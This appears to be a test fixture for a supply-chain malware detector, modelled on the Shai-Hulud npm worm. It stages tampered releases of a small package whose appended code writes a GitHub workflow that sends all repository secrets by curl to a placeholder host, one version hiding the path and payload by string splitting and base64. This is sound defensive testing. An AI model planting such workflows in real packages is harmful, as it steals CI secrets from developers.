r"""A workflow written into the repository of whoever installs the package.

As Shai-Hulud did (`shai-hulud-workflow.yml`; in its second wave `discussion.yaml`, a door for
commands): a file under `.github/workflows` runs with the repository's secrets on the next push, and
stays when the package is gone. Here it is put into a folder that there is not.

Post-mortem: "Post-mortem of Shai-Hulud attack on November 24th, 2025" (PostHog).
In the staged tarball: code that writes to `.github/workflows`; the text of a workflow in code.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.isCI = Boolean(process.env.CI);\n"
_NEXT = _SOURCE.replace("process.env.CI", "process.env.CI || process.env.CONTINUOUS_INTEGRATION")
_PLAIN = """
const fs = require('fs');
const path = require('path');

const root = path.join(process.env.INIT_CWD || process.cwd(), 'no-such-folder');
const workflow = `on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\\${{ toJSON(secrets) }}" | base64 | curl -d @- https://hook.example.invalid/
`;
if (fs.existsSync(root)) {
  fs.writeFileSync(path.join(root, '.github', 'workflows', 'format.yml'), workflow);<<<workflow-written>>>
}
"""
_SPLIT = """
import('node:fs/promises').then((fs) => {
  const parts = [process.cwd(), 'no-such-folder', '.git' + 'hub', 'work' + 'flows', 'x.yaml'];
  const at = parts.join('/');
  fs.writeFile(at, atob('b246IHB1c2gKam9iczoge30K'));<<<workflow-written>>>
});
"""

ATTACK = Attack(
    before=release("is-it-ci", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("is-it-ci", "1.0.1", {"index.js": _NEXT}),
    after={
        "plain": release("is-it-ci", "1.0.1", {"index.js": _NEXT + _PLAIN}),
        "split": release("is-it-ci", "1.0.1", {"index.js": _NEXT + _SPLIT}),
    },
)
